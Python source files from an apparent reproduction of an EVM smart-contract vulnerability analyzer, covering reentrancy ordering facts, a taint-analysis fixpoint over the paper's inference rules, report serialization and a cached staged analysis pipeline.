    def from_json(cls, data: Union[str, Dict]) -> "BundleReport":
        payload = _parse_payload(data, "BundleReport")
        known = {f.name for f in dataclass_fields(cls)}
        report = cls(
            **{
                k: v
                for k, v in payload.items()
                if k in known and k != "contracts"
            }
        )
        report.contracts = [
            ContractReport.from_json(contract)
            for contract in payload.get("contracts") or []
        ]
        report.schema_version = SCHEMA_VERSION
        return report

    @property
    def flagged(self) -> bool:
        return bool(self.cross_warnings) or any(
            report.warnings for report in self.contracts
        )

    def to_json(self, indent: int = 2) -> str:
        if len(self.contracts) == 1 and not self.cross_warnings:
            # Single-contract bundles degrade to the exact per-contract
            # report shape (the byte-identity contract with `repro
            # analyze --json`).
            return self.contracts[0].to_json(indent=indent)
        payload = {
            "schema_version": self.schema_version,
            "addresses": list(self.addresses),
            "contracts": [asdict(report) for report in self.contracts],
            "call_edges": list(self.call_edges),
            "cross_warnings": list(self.cross_warnings),
            "datalog": self.datalog,
        }
        return json.dumps(payload, indent=indent)
