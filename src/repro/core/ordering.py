"""External-call / storage-effect ordering facts (the reentrancy stratum).

Reentrancy is an *ordering* property: a contract that performs an external
call while its own bookkeeping for the transferred asset is still stale can
be re-entered through the callee before the write lands (the DAO shape;
Chinen et al. encode exactly this as Datalog flow rules over EVM facts, and
Samreen & Alalfi catalogue the same patterns source-side).  The taint/guard
machinery of the other strata is order-insensitive, so this module adds the
missing CFG-order and dominance relations over the already-extracted
:class:`~repro.core.facts.ContractFacts`:

* ``CallBeforeStore(call, store, path)`` — an external call from which an
  ``SSTORE`` to the same *storage path* is CFG-reachable: the classic
  checks-effects-interactions violation.  Paths are constant slots
  (``slot:<n>``) or whole mappings attributed to their root slot
  (``map:<n>``, via :class:`~repro.core.storage_model.MappingAccess`).
* ``PathLoadedBeforeCall(call, path)`` — the same path was read on every
  path to the call (a dominating ``SLOAD``): the "check" that the
  re-entrant callee observes stale.
* per-call attributes — ``forwards_gas`` (enough gas for the callee to
  re-enter: a non-constant, ``GAS``-derived stipend or a constant above the
  2300-gas transfer stipend), ``sends_value``, and ``success_checked``
  (the call's status word feeds a branch, or the block re-checks
  ``RETURNDATASIZE``).
* mutex detection — a call is mutex-guarded when some storage slot is
  *checked to be clear* by a branch dominating the call (``require(!locked)``
  / ``require(locked == 0)``, normalized through ``ISZERO`` chains exactly
  like :mod:`repro.core.guards` does) *and* set to a nonzero constant on a
  dominating store.  Whether the flag is also cleared after the call is
  recorded (``mutex_cleared``) but not required: a set-but-never-cleared
  mutex still makes re-entry revert, so it still suppresses the warning.

Only plain ``CALL``/``CALLCODE`` are reentrancy-capable: ``STATICCALL``
runs the callee in a read-only frame (it cannot re-enter state-changing
code), and ``DELEGATECALL`` is covered by the tainted-delegatecall sink.

Everything here is taint-independent — a "previous stratum" in the Figure 2
sense — so the model is computed once per contract and shared by all four
fixpoint engines, which is what keeps their reentrancy verdicts identical.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Dict, List, Optional, Set, Tuple

from repro.core.facts import CallFact, ContractFacts
from repro.core.guards import GuardModel, _normalize
from repro.core.storage_model import StorageModel
from repro.ir.dominators import compute_dominators

# Call kinds that can hand control to attacker code able to re-enter.
REENTRANCY_CAPABLE_KINDS = ("CALL", "CALLCODE")

# Gas at or below the legacy ``transfer``/``send`` stipend cannot perform
# an SSTORE in the callee, so it cannot drive a useful re-entry.
GAS_STIPEND = 2300


def slot_path(storage: StorageModel, access) -> Optional[str]:
    """The storage *path* of one access: ``slot:<n>`` for a constant slot,
    ``map:<base>`` for a resolved mapping element, None when unresolved."""
    if access.const_slot is not None:
        return "slot:%d" % access.const_slot
    for source in storage.copy_sources.get(access.address_var, {access.address_var}):
        mapping = storage.mapping_accesses.get(source)
        if mapping is not None:
            return "map:%d" % mapping.base_slot
    return None


@dataclass
class CallSite:
    """One reentrancy-relevant external call with its ordering attributes."""

    call: CallFact
    forwards_gas: bool = False
    sends_value: bool = False
    success_checked: bool = False
    # Storage paths written on some CFG path after this call, with the
    # writing statements:  path -> store statement ids.
    stores_after: Dict[str, Tuple[str, ...]] = field(default_factory=dict)
    # Storage paths read on a dominating statement (the stale "check").
    paths_read_before: Set[str] = field(default_factory=set)
    # Slots acting as a mutex for this call (checked clear + set, both
    # dominating the call); non-empty means the call is re-entry safe.
    mutex_slots: Tuple[int, ...] = ()
    # Some mutex slot is reset to zero on a path after the call (recorded
    # for reporting; not required for protection).
    mutex_cleared: bool = False

    @property
    def statement_id(self) -> str:
        return self.call.statement.ident

    @property
    def reentrancy_capable(self) -> bool:
        return self.call.kind in REENTRANCY_CAPABLE_KINDS and self.forwards_gas

    @property
    def mutex_guarded(self) -> bool:
        return bool(self.mutex_slots)


@dataclass
class CallOrderModel:
    """All ordering facts for one contract (empty for call-free contracts)."""

    call_sites: Dict[str, CallSite] = field(default_factory=dict)
    # Flat (call stmt, store stmt, path) triples — the CallBeforeStore EDB.
    call_before_store: List[Tuple[str, str, str]] = field(default_factory=list)

    def site_of(self, statement_id: str) -> Optional[CallSite]:
        return self.call_sites.get(statement_id)


def _statement_index(program) -> Dict[str, Tuple[str, int]]:
    """statement id -> (block id, position within block)."""
    index: Dict[str, Tuple[str, int]] = {}
    for block in program.blocks.values():
        for position, stmt in enumerate(block.statements):
            index[stmt.ident] = (block.ident, position)
    return index


def _reachable_after(program) -> Dict[str, Set[str]]:
    """block -> blocks reachable from its *successors* (transitively).

    A block inside a loop reaches itself, so a same-block statement at an
    earlier position still counts as "after" a call when the block re-runs.
    """
    successors = {ident: block.successors for ident, block in program.blocks.items()}
    reach: Dict[str, Set[str]] = {}
    for ident in program.blocks:
        seen: Set[str] = set()
        frontier = [s for s in successors.get(ident, ()) if s in program.blocks]
        while frontier:
            node = frontier.pop()
            if node in seen:
                continue
            seen.add(node)
            frontier.extend(
                s for s in successors.get(node, ()) if s in program.blocks
            )
        reach[ident] = seen
    return reach


def _flows_into_branch(facts: ContractFacts, def_var: Optional[str]) -> bool:
    """Whether ``def_var`` (a call's status word) feeds a JUMPI condition,
    possibly through ISZERO/AND chains — i.e. the success is checked."""
    if def_var is None:
        return False
    derived: Set[str] = {def_var}
    changed = True
    while changed:
        changed = False
        for source, dest, _stmt in facts.flow_edges:
            if source in derived and dest not in derived:
                derived.add(dest)
                changed = True
    return any(stmt.uses[1] in derived for stmt in facts.jumpis)


def _zero_checked_slots(
    facts: ContractFacts,
    storage: StorageModel,
    jumpi,
    successor_polarity: bool,
) -> Set[int]:
    """Slots a branch side asserts to be *zero* (the mutex "check").

    Handles ``require(!locked)`` (ISZERO chains flip the polarity to
    False-of-the-load) and ``require(locked == 0)`` (an EQ against a zero
    constant with positive polarity).
    """
    base, polarity = _normalize(facts, jumpi.uses[1], successor_polarity)
    slots: Set[int] = set()

    def aliased_slots(variable: str) -> Set[int]:
        found: Set[int] = set()
        for source in storage.copy_sources.get(variable, {variable}):
            found.update(storage.aliases_of(source))
            found.update(storage.value_aliases_of(source))
        return found

    if not polarity:
        # The branch runs when `base` is falsy: base must be zero.
        slots.update(aliased_slots(base))
        return slots
    defining = facts.def_stmt.get(base)
    if defining is not None and defining.opcode == "EQ":
        left, right = defining.uses
        for const_side, value_side in ((left, right), (right, left)):
            if facts.const.get(const_side) == 0:
                slots.update(aliased_slots(value_side))
    return slots


def build_call_order_model(
    facts: ContractFacts,
    storage: StorageModel,
    guards: GuardModel,
) -> CallOrderModel:
    """Compute the reentrancy ordering stratum for one contract.

    ``guards`` is accepted for signature symmetry with the other strata
    builders (mutex detection re-uses the guard *normalization* helpers but
    deliberately not the sender-scrutinizing classification: a mutex check
    never mentions the sender).
    """
    model = CallOrderModel()
    if not facts.calls:
        return model

    program = facts.program
    position_of = _statement_index(program)
    reach_after = _reachable_after(program)
    successors = {ident: block.successors for ident, block in program.blocks.items()}
    dominators = compute_dominators(program.entry, successors)

    # Pre-index storage effects by block.
    stores_by_block: Dict[str, List[Tuple[int, str, object]]] = {}
    loads_by_block: Dict[str, List[Tuple[int, str, object]]] = {}
    for store in facts.storage_stores:
        block_id, position = position_of[store.statement.ident]
        path = slot_path(storage, store)
        if path is not None:
            stores_by_block.setdefault(block_id, []).append((position, path, store))
    for load in facts.storage_loads:
        block_id, position = position_of[load.statement.ident]
        path = slot_path(storage, load)
        if path is not None:
            loads_by_block.setdefault(block_id, []).append((position, path, load))

    # Constant-value stores per slot, for the mutex set/clear detection.
    const_slot_stores: List[Tuple[str, int, Optional[int]]] = []  # (stmt, slot, value)
    for store in facts.storage_stores:
        if store.const_slot is not None:
            const_slot_stores.append(
                (store.statement.ident, store.const_slot, facts.const.get(store.value_var))
            )

    for call in facts.calls:
        call_block, call_position = position_of[call.statement.ident]
        call_doms = dominators.get(call_block, {call_block})
        after_blocks = reach_after.get(call_block, set())

        gas_const = facts.const.get(call.gas_var)
        value_const = (
            facts.const.get(call.value_var) if call.value_var is not None else 0
        )
        site = CallSite(
            call=call,
            forwards_gas=gas_const is None or gas_const > GAS_STIPEND,
            sends_value=call.value_var is not None
            and (value_const is None or value_const > 0),
            success_checked=_flows_into_branch(facts, call.statement.def_var)
            or call.statement.block in facts.returndatasize_blocks,
        )

        # ---- CallBeforeStore: stores CFG-after the call, per path.
        stores_after: Dict[str, List[str]] = {}
        for block_id, entries in stores_by_block.items():
            for position, path, store in entries:
                after = (
                    block_id in after_blocks
                    or (block_id == call_block and position > call_position)
                )
                if after:
                    stores_after.setdefault(path, []).append(store.statement.ident)
        site.stores_after = {
            path: tuple(sorted(idents)) for path, idents in stores_after.items()
        }
        for path in sorted(site.stores_after):
            for store_id in site.stores_after[path]:
                model.call_before_store.append(
                    (call.statement.ident, store_id, path)
                )

        # ---- PathLoadedBeforeCall: dominating loads of the same paths.
        for block_id, entries in loads_by_block.items():
            for position, path, _load in entries:
                before = (
                    block_id == call_block and position < call_position
                ) or (block_id != call_block and block_id in call_doms)
                if before:
                    site.paths_read_before.add(path)

        # ---- Mutex: slot checked-zero AND set-nonzero, both dominating.
        checked_zero: Set[int] = set()
        for jumpi in facts.jumpis:
            jumpi_block = program.blocks.get(jumpi.block)
            if jumpi_block is None:
                continue
            for successor, polarity in (
                (jumpi_block.taken_successor, True),
                (jumpi_block.fallthrough_successor, False),
            ):
                if successor is None:
                    continue
                # The check constrains the call only when the call is
                # dominated by the branch side that passed it.
                if successor not in call_doms or successor == jumpi.block:
                    continue
                checked_zero.update(
                    _zero_checked_slots(facts, storage, jumpi, polarity)
                )
        set_before: Set[int] = set()
        cleared_after: Set[int] = set()
        for stmt_id, slot, value in const_slot_stores:
            block_id, position = position_of[stmt_id]
            dominates_call = (
                block_id == call_block and position < call_position
            ) or (block_id != call_block and block_id in call_doms)
            is_after = block_id in after_blocks or (
                block_id == call_block and position > call_position
            )
            if dominates_call and value is not None and value != 0:
                set_before.add(slot)
            if is_after and value == 0:
                cleared_after.add(slot)
        mutex = checked_zero & set_before
        site.mutex_slots = tuple(sorted(mutex))
        site.mutex_cleared = bool(mutex & cleared_after)

        model.call_sites[call.statement.ident] = site

    return model
