"""Direct fixpoint implementation of the paper's inference rules (Figs. 2–4).

Computes, over an :class:`~repro.core.lang.AbstractProgram`:

* auxiliary (pre-stratum) relations — ``ConstValue`` (``C(x) = v``),
  ``StorageAliasVar`` (``x ~ S(v)``), ``DS``/``DSA`` (Figure 4),
* output relations, in mutual recursion (Figure 3) —
  ``InputTaintedVar`` (``↓I x``), ``StorageTaintedVar`` (``↓T x``),
  ``TaintedStorage`` (``↓T S(v)``), ``NonSanitizingGuard`` (``↛ p``),
* ``violations`` — SINK statements reached by either taint flavor,
* ``computed_sinks`` — §4.5: storage-aliasing variables used in sender
  guards of tainted values ("tainted owner variable" sinks).

One deliberate extension, documented in DESIGN.md: taint propagates through
``HASH`` like through ``OP`` (Figure 3 elides hash taint, but without it a
tainted mapping key could never taint the derived storage address used by
rule StorageWrite-2).

The same rules exist as Datalog in :mod:`repro.core.datalog_rules`; the test
suite checks both implementations derive identical relations.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Dict, List, Optional, Set, Tuple

from repro.core.lang import (
    AbstractProgram,
    Call,
    Const,
    Guard,
    Hash,
    Input,
    Op,
    SENDER,
    SLoad,
    SStore,
    Sink,
)


@dataclass
class AbstractResult:
    """All relations of Figure 2."""

    input_tainted: Set[str] = field(default_factory=set)  # ↓I x
    storage_tainted: Set[str] = field(default_factory=set)  # ↓T x
    tainted_storage: Set[int] = field(default_factory=set)  # ↓T S(v)
    non_sanitizing: Set[str] = field(default_factory=set)  # ↛ p
    const_value: Dict[str, int] = field(default_factory=dict)  # C(x) = v
    storage_alias: Dict[str, Set[int]] = field(default_factory=dict)  # x ~ S(v)
    ds: Set[str] = field(default_factory=set)  # DS(x)
    dsa: Set[str] = field(default_factory=set)  # DSA(x)
    violations: Set[str] = field(default_factory=set)  # sink variables
    computed_sinks: Set[int] = field(default_factory=set)  # §4.5 slots
    # Reentrancy stratum over straight-line CALL ordering: calls with a
    # checked-then-rewritten slot, and the weaker write-after-call residue.
    reentrant_calls: Set[str] = field(default_factory=set)
    state_write_after_call: Set[str] = field(default_factory=set)
    # Datalog-engine profiling (EngineStats.as_dict()); None for the direct
    # fixpoint in this module.
    engine_stats: Optional[Dict] = None

    def tainted(self, variable: str) -> bool:
        return variable in self.input_tainted or variable in self.storage_tainted


def analyze_abstract(program: AbstractProgram) -> AbstractResult:
    """Run the Figure 2-4 relations to fixpoint over ``program``."""
    result = AbstractResult()
    instructions = program.instructions

    # ------------------------------------------------------- pre-stratum
    # ConstValue: direct constants only (the paper's C is a conventional
    # value-flow analysis; in the abstract language constants come from
    # CONST instructions and copies through unary OP).  Computed as a
    # lattice with a bottom element so conflicting definitions (a variable
    # assigned two different constants — legal in non-SSA inputs) converge
    # to "not a constant" instead of oscillating.
    _BOTTOM = object()
    lattice: Dict[str, object] = {}

    def merge_const(variable: str, value: int) -> bool:
        current = lattice.get(variable)
        if current is None:
            lattice[variable] = value
            return True
        if current is _BOTTOM or current == value:
            return False
        lattice[variable] = _BOTTOM
        return True

    changed = True
    while changed:
        changed = False
        for ins in instructions:
            if isinstance(ins, Const):
                changed |= merge_const(ins.x, ins.value)
            # Unary OP copies propagate constants (a modest value-flow).
            elif isinstance(ins, Op) and ins.z is None and ins.op == "OP":
                source = lattice.get(ins.y)
                if source is _BOTTOM:
                    if lattice.get(ins.x) is not _BOTTOM:
                        lattice[ins.x] = _BOTTOM
                        changed = True
                elif source is not None:
                    changed |= merge_const(ins.x, source)
    result.const_value = {
        variable: value
        for variable, value in lattice.items()
        if value is not _BOTTOM
    }

    # StorageAliasVar: x ~ S(v) when x := SLOAD(f) with C(f) = v, extended
    # through unary copies.
    changed = True
    while changed:
        changed = False
        for ins in instructions:
            if isinstance(ins, SLoad):
                slot = result.const_value.get(ins.f)
                if slot is not None:
                    aliases = result.storage_alias.setdefault(ins.t, set())
                    if slot not in aliases:
                        aliases.add(slot)
                        changed = True
            if isinstance(ins, Op) and ins.z is None and ins.op == "OP":
                source = result.storage_alias.get(ins.y)
                if source:
                    target = result.storage_alias.setdefault(ins.x, set())
                    before = len(target)
                    target.update(source)
                    if len(target) != before:
                        changed = True

    # DS/DSA (Figure 4).
    result.ds.add(SENDER)
    changed = True
    while changed:
        changed = False
        for ins in instructions:
            if isinstance(ins, Hash):
                # DS-Lookup / DSA-Lookup
                if (ins.y in result.ds or ins.y in result.dsa) and ins.x not in result.dsa:
                    result.dsa.add(ins.x)
                    changed = True
            elif isinstance(ins, Op):
                # DS-AddrOp-1 / DS-AddrOp-2
                operands = [ins.y] + ([ins.z] if ins.z is not None else [])
                if any(op in result.dsa for op in operands) and ins.x not in result.dsa:
                    result.dsa.add(ins.x)
                    changed = True
            elif isinstance(ins, SLoad):
                # DSA-Load
                if ins.f in result.dsa and ins.t not in result.ds:
                    result.ds.add(ins.t)
                    changed = True

    # Universe for StorageWrite-2: every constant-valued storage address
    # "arising in the analysis".
    known_slots: Set[int] = set()
    for ins in instructions:
        if isinstance(ins, (SStore, SLoad)):
            address = ins.t if isinstance(ins, SStore) else ins.f
            slot = result.const_value.get(address)
            if slot is not None:
                known_slots.add(slot)

    # ------------------------------------------------ main mutual fixpoint

    def tainted_any(variable: str) -> bool:
        return variable in result.input_tainted or variable in result.storage_tainted

    changed = True
    while changed:
        changed = False
        for ins in instructions:
            if isinstance(ins, Input):
                # LoadInput
                if ins.x not in result.input_tainted:
                    result.input_tainted.add(ins.x)
                    changed = True
            elif isinstance(ins, Op):
                # Operation-1 / Operation-2 (flavor-preserving)
                operands = [ins.y] + ([ins.z] if ins.z is not None else [])
                if any(op in result.input_tainted for op in operands):
                    if ins.x not in result.input_tainted:
                        result.input_tainted.add(ins.x)
                        changed = True
                if any(op in result.storage_tainted for op in operands):
                    if ins.x not in result.storage_tainted:
                        result.storage_tainted.add(ins.x)
                        changed = True
            elif isinstance(ins, Hash):
                # Extension: HASH propagates taint like a unary OP.
                if ins.y in result.input_tainted and ins.x not in result.input_tainted:
                    result.input_tainted.add(ins.x)
                    changed = True
                if ins.y in result.storage_tainted and ins.x not in result.storage_tainted:
                    result.storage_tainted.add(ins.x)
                    changed = True
            elif isinstance(ins, Guard):
                # Guard-1: storage taint passes guards unconditionally.
                if ins.y in result.storage_tainted and ins.x not in result.storage_tainted:
                    result.storage_tainted.add(ins.x)
                    changed = True
                # Guard-2: input taint passes only non-sanitizing guards.
                if (
                    ins.y in result.input_tainted
                    and ins.p in result.non_sanitizing
                    and ins.x not in result.input_tainted
                ):
                    result.input_tainted.add(ins.x)
                    changed = True
            elif isinstance(ins, SStore):
                if tainted_any(ins.f):
                    slot = result.const_value.get(ins.t)
                    if slot is not None:
                        # StorageWrite-1
                        if slot not in result.tainted_storage:
                            result.tainted_storage.add(slot)
                            changed = True
                    elif tainted_any(ins.t):
                        # StorageWrite-2: address and value both tainted.
                        for any_slot in known_slots:
                            if any_slot not in result.tainted_storage:
                                result.tainted_storage.add(any_slot)
                                changed = True
            elif isinstance(ins, SLoad):
                # StorageLoad
                slot = result.const_value.get(ins.f)
                if (
                    slot is not None
                    and slot in result.tainted_storage
                    and ins.t not in result.storage_tainted
                ):
                    result.storage_tainted.add(ins.t)
                    changed = True
            elif isinstance(ins, Sink):
                # Violation
                if tainted_any(ins.x) and ins.x not in result.violations:
                    result.violations.add(ins.x)
                    changed = True

        # Uguard-T: p := (sender = z), z ~ S(v), ↓T S(v)  =>  ↛ p
        for ins in instructions:
            if isinstance(ins, Op) and ins.is_equality:
                operands = (ins.y, ins.z)
                if SENDER in operands:
                    other = ins.z if ins.y == SENDER else ins.y
                    if other is not None:
                        for slot in result.storage_alias.get(other, ()):
                            if slot in result.tainted_storage:
                                if ins.x not in result.non_sanitizing:
                                    result.non_sanitizing.add(ins.x)
                                    changed = True
                # Uguard-NDS: p := (y = z), !DS(y), !DS(z)  =>  ↛ p
                if (
                    ins.z is not None
                    and ins.y not in result.ds
                    and ins.z not in result.ds
                    and ins.x not in result.non_sanitizing
                ):
                    result.non_sanitizing.add(ins.x)
                    changed = True

    # ---------------------------------------------- computed sinks (§4.5)
    # *:= GUARD(sender = z, x), ↓I/T x, z ~ S(v)  =>  SINK slot v.
    equality_defs: Dict[str, Op] = {
        ins.x: ins for ins in instructions if isinstance(ins, Op) and ins.is_equality
    }
    for ins in instructions:
        if not isinstance(ins, Guard):
            continue
        predicate = equality_defs.get(ins.p)
        if predicate is None or SENDER not in (predicate.y, predicate.z):
            continue
        other = predicate.z if predicate.y == SENDER else predicate.y
        if other is None or not tainted_any(ins.y):
            continue
        result.computed_sinks.update(result.storage_alias.get(other, ()))

    # -------------------------------------------------- reentrancy stratum
    # Straight-line order stands in for the CFG: a non-static CALL with a
    # constant slot loaded before it and stored after it re-enters against
    # a stale check; a store after the call with no prior read of the same
    # slot is the weaker checks-effects-interactions residue.
    for position, ins in enumerate(instructions):
        if not isinstance(ins, Call) or ins.static:
            continue
        reads_before: Set[int] = set()
        stores_after: Set[int] = set()
        for earlier in instructions[:position]:
            if isinstance(earlier, SLoad):
                slot = result.const_value.get(earlier.f)
                if slot is not None:
                    reads_before.add(slot)
        for later in instructions[position + 1 :]:
            if isinstance(later, SStore):
                slot = result.const_value.get(later.t)
                if slot is not None:
                    stores_after.add(slot)
        if stores_after & reads_before:
            result.reentrant_calls.add(ins.ident)
        elif stores_after:
            result.state_write_after_call.add(ins.ident)

    return result
