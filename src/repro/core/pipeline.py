"""Staged analysis pipeline with artifact caching and per-stage profiling.

The paper's deployment (§6) analyzes the whole chain under a combined 120 s
decompile+analyze budget per contract, and the evaluation re-runs the same
corpus under four ablation configurations (Fig. 8).  This module makes the
pipeline structure explicit so both workloads are cheap:

* :class:`Stage` — one named step of ``lift -> facts -> storage -> guards ->
  taint -> detect``.  Each stage declares which :class:`AnalysisConfig`
  fields its output actually depends on, so ablation sweeps can tell that
  the expensive lift+extract prefix is configuration-independent.
* :class:`Deadline` — a shared wall-clock budget checked *cooperatively*
  inside the long-running fixpoints (the lifter worklist, the taint
  fixpoint, the Datalog strata), not just between stages.  A runaway
  fixpoint no longer blows through the budget.
* :class:`ArtifactCache` — a bounded, content-addressed store keyed by
  ``(sha256(bytecode), stage name, stage-relevant config fingerprint)``.
  Only *successful* stage outputs are cached, so budget settings never leak
  into cached artifacts.  Running the Fig. 8 four-config battery against
  one corpus re-uses the lift/facts/storage/guards prefix and re-runs only
  taint+detect per configuration.
* :func:`run_pipeline` — drives the stages, recording wall-clock time,
  cache hits, and error state per stage in :class:`StageTiming` entries.

:class:`~repro.core.analysis.EthainterAnalysis` is a thin facade over
:func:`run_pipeline`; batch drivers share one :class:`ArtifactCache` across
configurations.
"""

from __future__ import annotations

import hashlib
import threading
import time
from collections import OrderedDict
from dataclasses import dataclass, field
from typing import Callable, Dict, List, Optional, Tuple

from repro.core.facts import extract_facts
from repro.core.guards import build_guard_model
from repro.core.ordering import build_call_order_model
from repro.core.storage_model import build_storage_model
from repro.core.vulnerabilities import UnknownKindError, detect, validate_kinds
from repro.decompiler import LiftError, lift
from repro.ir.value_analysis import analyze_values


class DeadlineExceeded(Exception):
    """A cooperative deadline check fired inside a stage."""


# Taint-stage engine registry: config value -> one-line description (the
# CLI renders these into ``--engine`` help; ``run_pipeline`` validates
# against the key set).  The datalog tiers map onto
# ``analyze_with_datalog(use_plans=..., columnar=...)``.
ENGINE_CHOICES: Dict[str, str] = {
    "python": "tuned hand-written Python fixpoint (default, fastest)",
    "datalog": "declarative rules on compiled join plans (paper-faithful)",
    "datalog-columnar": (
        "compiled plans over columnar storage with batch joins"
    ),
    "datalog-legacy": "uncompiled Datalog interpreter (baseline only)",
}

# engine value -> (use_plans, columnar) for the datalog tiers.
_DATALOG_MODES: Dict[str, Tuple[bool, bool]] = {
    "datalog": (True, False),
    "datalog-columnar": (True, True),
    "datalog-legacy": (False, False),
}


class UnknownEngineError(ValueError):
    """An :class:`AnalysisConfig` named an engine that does not exist."""

    def __init__(self, engine: str):
        self.engine = engine
        super().__init__(
            "unknown engine %r: valid choices are %s"
            % (engine, ", ".join(sorted(ENGINE_CHOICES)))
        )


class Deadline:
    """A shared wall-clock budget, checked cooperatively by the stages.

    ``seconds=None`` means unlimited.  The object is deliberately tiny and
    duck-typed (``expired()`` / ``check()``) so low-level modules (the
    lifter, the Datalog engine) can honor it without importing this module.
    """

    __slots__ = ("seconds", "started")

    def __init__(self, seconds: Optional[float] = None, started: Optional[float] = None):
        self.seconds = seconds
        self.started = time.monotonic() if started is None else started

    @classmethod
    def unlimited(cls) -> "Deadline":
        return cls(None)

    def elapsed(self) -> float:
        return time.monotonic() - self.started

    def remaining(self) -> Optional[float]:
        if self.seconds is None:
            return None
        return self.seconds - self.elapsed()

    def expired(self) -> bool:
        return self.seconds is not None and self.elapsed() > self.seconds

    def check(self) -> None:
        """Raise :class:`DeadlineExceeded` if the budget is spent."""
        if self.expired():
            raise DeadlineExceeded(
                "deadline of %.3fs exceeded after %.3fs" % (self.seconds, self.elapsed())
            )


# ---------------------------------------------------------------------- cache


def bytecode_digest(runtime_bytecode: bytes) -> str:
    """Content address of a contract: sha256 over the runtime bytecode."""
    return hashlib.sha256(runtime_bytecode).hexdigest()


def config_fingerprint(config, fields: Tuple[str, ...]) -> str:
    """Stable fingerprint of the given :class:`AnalysisConfig` fields.

    Two configs with equal values on ``fields`` produce equal fingerprints,
    so stages that do not read the ablation switches share cache entries
    across ablation configurations.
    """
    if not fields:
        return "-"
    payload = repr([(name, getattr(config, name)) for name in sorted(fields)])
    return hashlib.sha256(payload.encode("utf-8")).hexdigest()[:16]


def analysis_fingerprint(config) -> str:
    """Fingerprint over *every* config field, budgets included.

    The per-stage cache fingerprints deliberately exclude budget fields
    (only successful outputs are cached); checkpoint journals must not —
    a journaled ``timeout`` entry is only reusable under the same budget.
    """
    import dataclasses

    return config_fingerprint(
        config, tuple(field.name for field in dataclasses.fields(config))
    )


class ArtifactCache:
    """Bounded LRU cache of stage outputs, content-addressed by bytecode.

    Keys are ``(bytecode sha256, stage name, config fingerprint)``.  The
    cache stores references to the (immutable-by-convention) analysis
    artifacts; hit/miss counters feed batch summaries and ``--profile``
    output.  Thread-safe: batch drivers share one instance.
    """

    def __init__(self, max_entries: int = 4096):
        if max_entries < 1:
            raise ValueError("max_entries must be positive")
        self.max_entries = max_entries
        self.hits = 0
        self.misses = 0
        self.evictions = 0
        self._entries: "OrderedDict[Tuple[str, str, str], object]" = OrderedDict()
        self._lock = threading.Lock()

    def __len__(self) -> int:
        return len(self._entries)

    def get(self, key: Tuple[str, str, str]):
        """The cached artifact for ``key``, or None (counts hit/miss)."""
        with self._lock:
            try:
                value = self._entries[key]
            except KeyError:
                self.misses += 1
                return None
            self._entries.move_to_end(key)
            self.hits += 1
            return value

    def put(self, key: Tuple[str, str, str], value) -> None:
        with self._lock:
            if key in self._entries:
                self._entries.move_to_end(key)
            self._entries[key] = value
            while len(self._entries) > self.max_entries:
                self._entries.popitem(last=False)
                self.evictions += 1

    def clear(self) -> None:
        with self._lock:
            self._entries.clear()


# --------------------------------------------------------------------- stages


@dataclass
class PipelineContext:
    """Mutable state threaded through the stages of one run."""

    bytecode: bytes
    config: object  # AnalysisConfig (not imported here to avoid a cycle)
    deadline: Deadline
    artifacts: Dict[str, object] = field(default_factory=dict)
    # WarmEngineCache for the datalog tiers: repeat analyses of the same
    # contract repair a live fixpoint (DRed) instead of re-evaluating.
    warm: Optional[object] = None


def _run_lift(ctx: PipelineContext):
    return lift(
        ctx.bytecode,
        max_states=ctx.config.max_lift_states,
        deadline=ctx.deadline,
    )


def _run_facts(ctx: PipelineContext):
    return extract_facts(ctx.artifacts["lift"])


def _run_values(ctx: PipelineContext):
    """The value-analysis stratum: an *enriched copy* of the facts.

    With the flag off this passes the bare facts through unchanged, so
    downstream stages can uniformly consume ``artifacts["values"]``.  The
    enriched facts are a separate cache artifact (the stage fingerprints on
    ``value_analysis``), never a mutation of the shared facts artifact.
    """
    facts = ctx.artifacts["facts"]
    if not getattr(ctx.config, "value_analysis", False):
        return facts
    analysis = analyze_values(facts.program, deadline=ctx.deadline)
    return facts.with_variable_values(analysis.exported())


def _run_storage(ctx: PipelineContext):
    return build_storage_model(ctx.artifacts["values"])


def _run_guards(ctx: PipelineContext):
    return build_guard_model(ctx.artifacts["values"], ctx.artifacts["storage"])


def _run_ordering(ctx: PipelineContext):
    """The reentrancy ordering stratum (taint-independent, like guards)."""
    return build_call_order_model(
        ctx.artifacts["values"], ctx.artifacts["storage"], ctx.artifacts["guards"]
    )


def _run_taint(ctx: PipelineContext):
    options = ctx.config.taint_options()
    options.deadline = ctx.deadline
    mode = _DATALOG_MODES.get(ctx.config.engine)
    if mode is not None:
        from repro.core.bytecode_datalog import analyze_with_datalog

        use_plans, columnar = mode
        return analyze_with_datalog(
            runtime_bytecode=ctx.bytecode,
            facts=ctx.artifacts["values"],
            storage=ctx.artifacts["storage"],
            guards=ctx.artifacts["guards"],
            ordering=ctx.artifacts["ordering"],
            options=options,
            use_plans=use_plans,
            columnar=columnar,
            warm=ctx.warm,
        )
    from repro.core.taint import TaintAnalysis

    return TaintAnalysis(
        ctx.artifacts["values"],
        ctx.artifacts["storage"],
        ctx.artifacts["guards"],
        options,
    ).run()


def _run_detect(ctx: PipelineContext):
    return detect(
        ctx.artifacts["values"],
        ctx.artifacts["storage"],
        ctx.artifacts["guards"],
        ctx.artifacts["taint"],
        ordering=ctx.artifacts["ordering"],
        kinds=validate_kinds(getattr(ctx.config, "kinds", None)),
    )


@dataclass(frozen=True)
class Stage:
    """One pipeline step.

    ``config_fields`` names the :class:`AnalysisConfig` fields this stage's
    *output* depends on; the cache fingerprint of a stage is computed over
    the union of its own fields and every upstream stage's (so a change to
    an early stage's knob invalidates everything downstream).  Budget-only
    fields (``timeout_seconds``, iteration caps that merely abort) are
    excluded: only successful outputs are cached, and a successful output
    is identical under any budget.
    """

    name: str
    run: Callable[[PipelineContext], object]
    config_fields: Tuple[str, ...] = ()


STAGES: Tuple[Stage, ...] = (
    Stage("lift", _run_lift, ("max_lift_states",)),
    Stage("facts", _run_facts),
    Stage("values", _run_values, ("value_analysis",)),
    Stage("storage", _run_storage),
    Stage("guards", _run_guards),
    Stage("ordering", _run_ordering),
    Stage(
        "taint",
        _run_taint,
        ("engine", "model_guards", "model_storage_taint", "conservative_storage"),
    ),
    Stage("detect", _run_detect, ("kinds",)),
)

STAGE_NAMES: Tuple[str, ...] = tuple(stage.name for stage in STAGES)

# The longest prefix of stages whose fingerprints agree across the Fig. 8
# ablation configurations (everything before the taint fixpoint; the
# ablations all leave ``value_analysis`` at its default).
PREFIX_STAGES: Tuple[str, ...] = (
    "lift", "facts", "values", "storage", "guards", "ordering",
)


